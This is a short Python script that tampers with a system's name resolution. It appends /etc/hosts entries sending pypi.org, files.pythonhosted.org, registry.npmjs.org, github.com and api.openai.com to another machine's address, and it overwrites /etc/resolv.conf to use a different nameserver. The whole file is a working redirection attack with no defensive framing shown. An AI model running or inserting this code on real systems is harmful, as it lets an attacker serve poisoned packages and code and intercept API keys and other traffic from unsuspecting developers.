# points well known names to another machine
NAMES = ["pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "github.com", "api.openai.com"]
with open("/etc/hosts", "a") as hosts:
    for n in NAMES:
        hosts.write(f"203.0.113.200\t{n}\n")
with open("/etc/resolv.conf", "w") as rc:
    rc.write("nameserver 203.0.113.53\n")
